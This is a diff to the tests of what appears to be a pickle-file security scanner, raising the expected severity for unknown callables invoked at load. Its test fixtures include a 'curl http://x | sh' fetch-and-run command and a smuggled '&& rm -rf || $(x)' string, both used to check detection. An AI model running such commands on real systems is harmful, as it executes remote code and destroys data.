@@ -118,9 +118,9 @@ def test_setitem_on_a_list_is_structure_abuse(tmp_path: Path) -> None:
     assert finding.severity is Severity.MEDIUM
 
 
-def test_unknown_global_is_medium_and_code_like_args_high(tmp_path: Path) -> None:
+def test_unknown_callable_called_at_load_is_high_and_code_like_args_high(tmp_path: Path) -> None:
     plain = scan_bytes_file(tmp_path, call("mypackage.layers", "Thing", "relu"), "a.pkl")
-    assert max(f.severity for f in plain.findings) is Severity.MEDIUM
+    assert rules(plain, Severity.HIGH) == {"pickle.unknown-call"}
     shell = scan_bytes_file(tmp_path, call("mlflow_like.util", "run", "curl http://x | sh"), "b.pkl")
     assert "pickle.suspicious-argument" in rules(shell, Severity.HIGH)
 
@@ -203,4 +203,6 @@ def test_partial_is_judged_by_the_function_it_wraps(tmp_path: Path) -> None:
 
 def test_bytes_arguments_are_not_read_as_code(tmp_path: Path) -> None:
     data = proto(2) + glob("mylib", "unpickle") + MARK + binbytes(b"&& rm -rf || $(x)") + TUPLE + REDUCE + STOP
-    assert max(f.severity for f in scan_bytes_file(tmp_path, data).findings) is Severity.MEDIUM
+    report = scan_bytes_file(tmp_path, data)
+    assert "pickle.suspicious-argument" not in {f.rule_id for f in report.findings}
+    assert rules(report, Severity.HIGH) == {"pickle.unknown-call"}
